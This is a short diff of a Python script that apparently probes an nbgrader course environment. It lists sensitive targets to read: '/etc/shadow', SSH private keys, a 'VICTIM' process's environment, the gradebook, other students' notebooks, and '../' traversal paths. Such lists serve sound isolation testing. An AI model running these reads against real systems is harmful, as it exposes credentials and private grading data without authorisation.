@@ -7,7 +7,7 @@ import glob, os
 wanted = SECRETS + [
     f"{COURSE}/source/week91/zoo.ipynb", f"{COURSE}/gradebook.db", f"{COURSE}/nbgrader_config.py",
     f"{COURSE}/submitted/good-1/week91/zoo.ipynb", f"{COURSE}/autograded/good-1/week91/zoo.ipynb",
-    "/etc/shadow", "/etc/passwd", os.path.expanduser("~root/.ssh/id_rsa"), os.path.expanduser("~/.ssh/id_rsa"),
+    "/etc/shadow", "/etc/passwd", *map(os.path.expanduser, ("~root/.ssh/id_rsa", "~/.ssh/id_rsa")),
     f"/proc/{VICTIM}/environ", "/proc/1/root/etc/shadow", "../../../gradebook.db", "../good-1/zoo.ipynb",
 ]
 for path in [COURSE, "/home", "/root", "/var", "/srv", "/tmp", "/mnt", "/run", "/old", "/.old"]:
